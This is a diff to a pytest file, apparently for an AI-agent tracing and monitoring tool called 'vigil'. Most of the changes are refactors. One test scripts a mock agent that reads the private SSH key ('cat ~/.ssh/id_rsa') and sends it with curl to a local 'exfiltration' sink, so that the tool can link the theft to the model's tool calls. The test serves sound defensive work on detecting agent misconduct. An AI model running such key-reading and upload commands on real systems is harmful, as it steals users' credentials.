@@ -20,8 +20,10 @@ from test_effects_session import AGENT, sink  # noqa: F401  (sink: the exfiltrat
 
 pytestmark = pytest.mark.usefixtures("root")
 
+OBSERVED_CMD = "echo observed > out.txt"
 
-def trace_agent(tmp_path: Path, commands: list[str]) -> tuple[list[dict[str, Any]], Path, subprocess.CompletedProcess[str]]:
+
+def trace_agent(tmp_path: Path, commands: list[str]) -> tuple[list[dict[str, Any]], Path]:
     """The scripted agent under `vigil trace -- CMD`; its model asks for `commands` in one turn."""
     home = tmp_path / "home"
     (home / ".ssh").mkdir(parents=True)
@@ -38,13 +40,13 @@ def trace_agent(tmp_path: Path, commands: list[str]) -> tuple[list[dict[str, Any
         assert server.errors == []
     assert proc.returncode == 0, proc.stderr
     events, _ = parse_json_lines(proc.stdout)
-    return events, db, proc
+    return events, db
 
 
 def test_trace_links_the_exfiltration_to_the_models_tool_calls(tmp_path: Path, sink: int) -> None:  # noqa: F811
     read_cmd = "cat ~/.ssh/id_rsa > /dev/null"
     send_cmd = f"curl -s -o /dev/null http://127.0.0.1:{sink}/upload"
-    events, db, _ = trace_agent(tmp_path, [read_cmd, send_cmd])
+    events, db = trace_agent(tmp_path, [read_cmd, send_cmd])
     (llm,) = [e for e in events if e["type"] == "llm_call"]
     model_ids = [tc["id"] for tc in llm["tool_calls"]]
     starts = {e["argv"][-1]: e for e in events if e["type"] == "tool_start"}
@@ -104,11 +106,10 @@ def _one_step_story(events: list[dict[str, Any]], work: Path) -> None:
     assert [a["evidence"][0]["argv"] for a in alerts] == [["/bin/true", "unrequested"]]
 
 
-OBSERVED_CMD = "echo observed > out.txt"
-
 
 def _scenario() -> Scenario:
-    return Scenario("one", default_reply=Reply(text="Writing.", tool_calls=(ToolCallSpec("bash", {"command": OBSERVED_CMD}),)))
+    return Scenario("one", default_reply=Reply(text="Writing.",
+                                               tool_calls=(ToolCallSpec("bash", {"command": OBSERVED_CMD}),)))
 
 
 def test_trace_by_name_links_tool_calls(tmp_path: Path) -> None:
